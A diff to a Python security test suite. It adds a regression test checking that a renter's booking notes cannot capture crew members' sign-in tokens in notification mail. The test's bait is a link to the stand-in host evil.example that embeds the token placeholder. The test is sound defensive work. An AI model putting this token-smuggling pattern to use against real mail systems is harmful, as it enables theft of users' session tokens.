@@ -46,6 +46,7 @@ from tests.fuzz.strategies import FUZZ, examples
 from tests.security.conftest import Tenant, book, sign_in
 
 URLSAFE = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_."
+JWT_HEADER = "eyJhbGciOi"  # how every token firstmate signs begins: {"alg":…
 
 
 def _crew_link(app: App, person: str = "jonah") -> str:
@@ -248,6 +249,26 @@ def test_a_notification_link_opens_its_own_trip_once(client: TestClient, demo_ap
     assert entered.status_code == 303 and entered.headers["location"] == f"/crew/events/{demo.booking.event_id}"
     client.cookies.clear()
     assert client.post("/crew/enter", data={"t": match.group(1)}).status_code == 401
+
+
+def test_text_a_renter_wrote_cannot_carry_a_crew_members_token(demo_app: App) -> None:
+    """A booking's notes reach every crew member's mail. Notes holding the place of the sign-in
+    token, as `outbox show` displays it (or a guess at one), come out of the sent mail as written:
+    each message's place is its own and unguessable, so the one token goes into the real link only
+    (with one fixed place for all, a note's link to another site carried each crew member's token)."""
+    from firstmate.domain.mail import SIGN_IN_SLOT
+
+    bait = f"https://evil.example/plan?x={SIGN_IN_SLOT[:-1]}) and {SIGN_IN_SLOT}{'0' * 24}) or {SIGN_IN_SLOT}"
+    body = booking_body(external_id="BAIT-1", notes=f"Bring snacks: {bait}")
+    booking = orchestrate_booking(demo_app, "demo", BookingRequest.model_validate(body)).booking
+    crew = [e for e in outbox.list_entries(demo_app.store, "demo") if e.key.startswith(f"bk:{booking.id}:r1:crew:")]
+    assert len(crew) == 4 and len({e.message.sign_in.slot for e in crew if e.message.sign_in}) == 4
+    for entry in crew:
+        mail = sent_mail(demo_app, "demo", entry.key)
+        text = mail_text(mail)
+        html = mail.get_body(preferencelist=("html",)).get_content()  # type: ignore[union-attr]
+        assert bait in text and text.count(JWT_HEADER) == 1  # one token, in the link
+        assert html.count(JWT_HEADER) == 1 and re.search(rf'href="[^"]*/crew/enter\?t={JWT_HEADER}', html)
 
 
 def test_a_session_stops_working_when_its_person_is_deactivated(demo_app: App, demo: Tenant) -> None:
